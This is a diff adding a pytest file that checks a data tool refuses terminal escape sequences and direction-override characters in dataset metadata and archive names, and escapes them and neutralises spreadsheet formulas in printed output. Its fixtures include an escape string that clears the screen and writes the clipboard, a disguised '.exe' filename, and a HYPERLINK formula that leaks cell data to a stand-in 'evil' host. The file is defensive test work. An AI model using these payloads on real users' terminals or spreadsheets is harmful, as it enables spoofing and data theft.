@@ -1,0 +1,67 @@
+"""Text an uploader writes never reaches another user's terminal or spreadsheet as control: dataset.yaml text,
+archive and member names with control characters or direction overrides are refused (exit 2); what is
+printed from data (tables, CSV, JSON) writes such characters out and neutralises spreadsheet formulas
+(found by an attack trial: `kdata show` and `kdata sql` printed an uploader's ESC sequences as they were)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from pathlib import Path
+
+import pytest
+from rich.console import Console
+
+from ingest.discover import discover_layout
+from ingest.limits import UnsafeArchive
+from ingest.safety import check_name
+from kdata import render
+from schemas.manifest import ManifestError, parse_manifest
+
+ESC = "\x1b[2J\x1b]52;c;cHduZWQ=\x1b\\"  # clear the screen, write the reader's clipboard
+
+
+def test_dataset_yaml_text_with_terminal_escapes_is_refused(tmp_path: Path) -> None:
+    data = {"id": "evil-meta", "title": {"ko": f"제목{ESC}", "en": "Title"}, "keywords": ["a\u202eb"]}
+    with pytest.raises(ManifestError) as refused:
+        parse_manifest(data, tmp_path / "dataset.yaml")
+    message = str(refused.value)
+    assert "title.ko" in message and "\\x1b" in message and "keywords[0]" in message and "\\u202e" in message
+    assert "\x1b" not in message  # the refusal itself writes them out
+
+
+def test_archive_and_member_names_with_control_characters_are_refused(tmp_path: Path) -> None:
+    assert check_name("a\u202enosj.exe.json", "a\u202enosj.exe.json") is not None  # reads as "aexe.json"
+    assert check_name("label\u0085.json", "label\u0085.json") is not None  # a C1 control (NEL)
+    assert check_name("라벨/정상.json", "라벨/정상.json") is None
+    labels = tmp_path / "ds" / "01.데이터" / "1.Training" / "라벨링데이터"
+    labels.mkdir(parents=True)
+    with zipfile.ZipFile(labels / "TL_1.\x1b[31mRED.zip", "w") as archive:
+        archive.writestr("a.json", "{}")
+    with pytest.raises(UnsafeArchive) as refused:
+        discover_layout(tmp_path / "ds")
+    assert refused.value.code == "unsafe_name" and "\x1b" not in str(refused.value)
+
+
+def test_printed_data_writes_control_characters_out_and_neutralises_formulas(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    columns = ["id", "text"]
+    rows = [("A1", f"hello{ESC}"), ("A2", '=HYPERLINK("http://evil/?"&A1,"click")'), ("A3", "-5"), ("A4", "@SUM(1)")]
+    terminal = io.StringIO()
+    render.render_rows(Console(file=terminal, force_terminal=True, width=200), columns, rows, "table")
+    assert "\x1b[2J" not in terminal.getvalue() and "\\x1b[2J" in terminal.getvalue()
+    render.render_rows(Console(file=io.StringIO()), columns, rows, "csv")
+    cells = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert [c[1] for c in cells[1:]] == [
+        "hello\\x1b[2J\\x1b]52;c;cHduZWQ=\\x1b\\",
+        '\'=HYPERLINK("http://evil/?"&A1,"click")',
+        "-5",  # a number stays a number
+        "'@SUM(1)",
+    ]
+    render.render_rows(Console(file=io.StringIO()), columns, [("A5", "x\u202ey\u009bz")], "json")
+    printed = capsys.readouterr().out
+    assert "\u202e" not in printed and "\u009b" not in printed
+    assert json.loads(printed) == [{"id": "A5", "text": "x\u202ey\u009bz"}]  # the same value, escaped
